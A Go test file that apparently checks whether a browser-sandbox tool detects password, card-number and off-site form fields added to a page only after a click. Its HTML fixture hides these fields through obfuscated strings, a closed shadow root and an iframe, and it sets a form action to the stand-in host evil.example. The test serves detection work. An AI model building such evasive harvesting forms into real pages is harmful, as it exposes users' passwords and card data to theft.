package browser

import (
	"testing"

	"sandlot/internal/testkit/expect"
	"sandlot/internal/testkit/testenv"
)

// late builds its fields when somebody clicks: one in a frame, one in a closed shadow root, and a form that sends elsewhere.
const late = `<!doctype html><body style="background:#123;height:100vh"><h1 style="color:#fb3">Play</h1><form action="/scores"><input name=player></form><script>
onclick = () => {
	onclick = null
	const word = [100, 114, 111, 119].map(n => String.fromCharCode(n)).reverse().join('')
	const root = document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'})
	const field = root.appendChild(document.createElement('in' + 'put'))
	field.type = 'pass' + word
	const frame = document.body.appendChild(document.createElement('iframe'))
	frame.contentDocument.body.appendChild(frame.contentDocument.createElement('input')).autocomplete = ['cc', 'number'].join('-')
	const form = document.body.appendChild(document.createElement('form'))
	form.action = 'https://' + 'evil.example/x'
	form.appendChild(document.createElement('textarea'))
}</script>`

// TestATrialSeesFieldsThatComeWithAClick also in frames and closed shadow roots, and none in a page that has none.
func TestATrialSeesFieldsThatComeWithAClick(t *testing.T) {
	testenv.Unraced(t)
	s := opens(t, files{"/": late}, patient())
	expect.Same(t, "fields", s.Fields, []string{"password", "card", "sends"})
	s = opens(t, files{"/": game + `<form action="http://pong.localhost/x"><input name=player placeholder="Guess the password"></form>`}, patient())
	expect.Same(t, "fields of an honest game", s.Fields, nil)
}
